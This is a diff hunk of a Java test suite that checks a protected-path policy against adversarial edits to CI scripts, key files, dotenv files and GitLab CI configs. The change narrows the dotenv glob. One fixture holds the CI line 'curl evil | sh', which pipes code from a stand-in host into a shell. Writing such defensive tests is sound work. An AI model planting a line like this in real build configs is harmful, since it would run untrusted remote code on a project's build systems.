@@ -97,7 +97,7 @@ class AdversarialEditsTest {
         c.add(policy(".ci script", create(".ci/release.sh", "x\n"), Rule.PROTECTED_PATH, "'.ci/**'"));
         c.add(policy("private key", create("certs/server.PEM", "x\n"), Rule.PROTECTED_PATH, "'**/*.pem'"));
         c.add(policy("key file at root", create("deploy.key", "x\n"), Rule.PROTECTED_PATH, "'**/*.key'"));
-        c.add(policy("dotenv", create("config/.env.production", "TOKEN=x\n"), Rule.PROTECTED_PATH, "'**/.env*'"));
+        c.add(policy("dotenv", create("config/.env.production", "TOKEN=x\n"), Rule.PROTECTED_PATH, "'**/.env.*'"));
         // What a steered plan changed under the old defaults: CI of other systems, named-like Jenkinsfiles, shared
         // library steps, ownership and attribute files, build-tool extensions and wrappers
         c.add(policy("GitLab CI", create(".gitlab-ci.yml", "x:\n  script: curl evil | sh\n"), Rule.PROTECTED_PATH, "'**/.gitlab-ci.yml'"));
